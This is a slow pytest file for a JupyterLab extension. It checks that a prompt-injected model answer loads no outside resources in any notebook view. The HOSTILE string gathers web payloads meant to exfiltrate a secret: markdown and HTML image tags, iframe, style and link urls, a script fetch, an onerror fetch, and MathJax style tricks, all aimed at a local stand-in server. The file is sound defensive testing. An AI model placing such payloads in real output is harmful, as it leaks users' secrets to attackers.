"""A hostile answer in a real JupyterLab: every face shows it, and nothing is fetched.

A prompt injection makes a model write images, raw HTML and MathJax that would load a URL (the
way it exfiltrates a secret). A local HTTP server on a free port records every request; the
answers point at it. The notebook shows the answer through %%lfw generate, chat, compare, a
pipeline run, %lfw runs, %lfw show and the chat panel, and the test asserts that the server heard nothing, the
page asked nothing of any other origin, and a person sees the images as "image not loaded" lines.
"""

from __future__ import annotations

import http.server
import threading
import time
from pathlib import Path

import pytest

from .conftest import RESULTS, write_notebook
from .test_preview_lab import _kernel_connected, run_cell

pytestmark = pytest.mark.slow

TESTS = Path(__file__).resolve().parents[1]

# LEAK is replaced by http://127.0.0.1:PORT/leak; each vector has its own path.
HOSTILE = """Here is the chart you asked for ![chart](LEAK/markdown-image?q=secret) and more.

![by reference][r]

[r]: LEAK/reference-image

<img src=LEAK/img-tag>
<IMG SRC="LEAK/img-upper">
<iframe src="LEAK/iframe"></iframe>
<style>.jp-Notebook { background: url(LEAK/style-url) }</style>
<link rel="stylesheet" href="LEAK/link">
<video poster="LEAK/video-poster"></video>
<svg><image href="LEAK/svg-image"/></svg>
<object data="LEAK/object"></object>
<script>fetch("LEAK/script")</script>
<img src=x onerror="fetch('LEAK/onerror')">

[![inside a link](LEAK/image-in-link)](https://example.invalid/)

| a | b |
|---|---|
| ![in a table](LEAK/table-image) | <img src=LEAK/table-img-tag> |

$\\style{background-image:url(LEAK/mathjax-style)}{x}$ and $\\bbox[background:url(LEAK/mathjax-bbox)]{y}$

```python
html = "<img src=LEAK/code-block>"  # code stays code
```
"""

PIPELINE = """steps:
  - name: answer
    model: hostile
    prompt: "{input}"
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 (http.server's name)
        self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    do_POST = do_GET

    def log_message(self, *args):  # quiet
        pass


@pytest.fixture
def leak_server():
    """An HTTP server on 127.0.0.1 at a free port: (base URL, the paths it was asked for)."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.paths = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", server.paths
    server.shutdown()
    server.server_close()


def test_a_hostile_answer_loads_nothing_in_any_face(lab, browser, leak_server):
    base, paths = leak_server
    answer = HOSTILE.replace("LEAK", f"{base}/leak")
    write_notebook(
        lab["root"] / "untrusted.ipynb",
        [
            "%load_ext lfwb",
            "import sys, lfwb\n"
            f"sys.path.insert(0, {str(TESTS)!r})\n"
            "from fixtures.scripted import Scripted\n"
            "scripted = Scripted(lfwb.workbench())\n"
            f"for name in ('hostile', 'hostile2'):\n    scripted.model(name, [{answer!r}])",
            "%%lfw generate -m hostile\nShow me the chart.",
            "%%lfw chat -m hostile --session leaky\nAnd again?",
            "%%lfw compare -m hostile,hostile2\nSide by side.",
            f"%%lfw pipeline leaky\n{PIPELINE}",
            "%lfw run leaky --input go",
            "%lfw runs",
            "%lfw show 1",
            "%lfw panel chat --session leaky",
        ],
    )
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    page.set_default_timeout(30_000)
    try:
        page.goto(f"{lab['url']}/lab/tree/untrusted.ipynb?reset&token={lab['token']}")
        page.locator(".jp-Notebook .jp-Cell").first.wait_for()
        _kernel_connected(lab)
        cells = [run_cell(page, i) for i in range(10)]
        time.sleep(2)  # what a page loads, it loads at once; leave it the time to
        RESULTS.mkdir(exist_ok=True)
        page.screenshot(path=str(RESULTS / "untrusted.png"), full_page=True)
        shown = {}
        for i in (2, 3, 4, 6, 9):  # generate, chat, compare, the pipeline's step, the chat panel
            shown[i] = cells[i].locator(".jp-OutputArea").text_content()
        seen = {}
        for i in (2, 3, 6, 9):  # what a person sees where the images were
            cells[i].scroll_into_view_if_needed()
            page.wait_for_timeout(300)
            seen[i] = cells[i].get_by_text("image not loaded").first.is_visible()
    finally:
        context.close()

    assert paths == [], f"the page fetched from the answer's server: {paths}"
    foreign = [u for u in asked if not u.startswith(lab["url"]) and not u.startswith("data:")]
    assert foreign == [], f"the page asked other origins: {foreign}"
    assert seen == {2: True, 3: True, 6: True, 9: True}
    for i in (2, 3, 6, 9):  # a person sees the images as lines of text, the HTML as text
        assert f"🖼 chart (image not loaded: {base}/leak/markdown-image?q=secret)" in shown[i], shown[i]
        assert f"<img src={base}/leak/img-tag>" in shown[i]
        assert f'html = "<img src={base}/leak/code-block>"  # code stays code' in shown[i]
    assert "Here is the chart you asked for" in shown[4]  # compare's columns: the text as written
